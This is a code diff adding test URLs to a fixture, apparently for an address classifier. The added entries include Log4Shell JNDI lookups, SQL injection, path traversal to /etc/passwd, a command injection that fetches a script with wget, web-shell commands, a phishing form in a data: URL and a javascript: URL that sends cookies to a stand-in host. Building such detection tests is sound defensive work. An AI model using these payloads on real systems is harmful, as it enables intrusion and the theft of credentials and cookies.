@@ -116,6 +116,30 @@ const any = /^(?:url|domain|lists)\./
 
 export const urlEntries = (): Entry[] => [
   ...texts('url', 'ordinary addresses', ordinary),
+  ...texts('url', 'words of attacks in ordinary addresses', [
+    'https://www.google.com/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D+log4shell',
+    'https://stackoverflow.com/search?q=union+select+null',
+    'https://docs.example/sql/union-select.html',
+    'https://shop.example/list?id=5&sort=name;price',
+    'https://shop.example/s?k=cat+litter&ref=nb;id',
+    'https://ci.example/job/run?cmd=build&target=../out',
+    'https://api.example/v1/items?filter=name%20eq%20%27x%27%20and%20price%20gt%205',
+    'https://example.org/a/../b/../c',
+  ]),
+  ...lureTexts('url', 'attacks on a server', any, [
+    `https://victim.example/?q=${'$'}{jndi:ldap://203.0.113.5/a}`,
+    'https://victim.example/%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D',
+    'https://victim.example/item.php?id=-1%20UNION%20SELECT%20null,version()--',
+    'https://victim.example/?id=1%27%20or%20%271%27=%271',
+    'https://victim.example/download?f=..%2f..%2f..%2f..%2fetc%2fpasswd',
+    'https://victim.example/cgi-bin/ping?host=127.0.0.1;wget%20http://203.0.113.5/x.sh',
+    'http://victim.example/up.jsp?cmd=whoami',
+    'http://[2001:db8::5]/gate.php?id=1&cmd=whoami;id',
+  ]),
+  ...lureTexts('url', 'a page or a script as an address', any, [
+    `data:text/html;base64,${Buffer.from('<form action="https://collect.example.net/p"><input type=password></form>').toString('base64')}`,
+    'javascript:fetch("https://collect.example.net/"+document.cookie)',
+  ]),
   ...lureTexts('url', 'backslash before the at sign', any, [
     'https://www.paypal.com\\@collect.example.net/login',
     'https://accounts.google.com\\\\@1.2.3.4/',
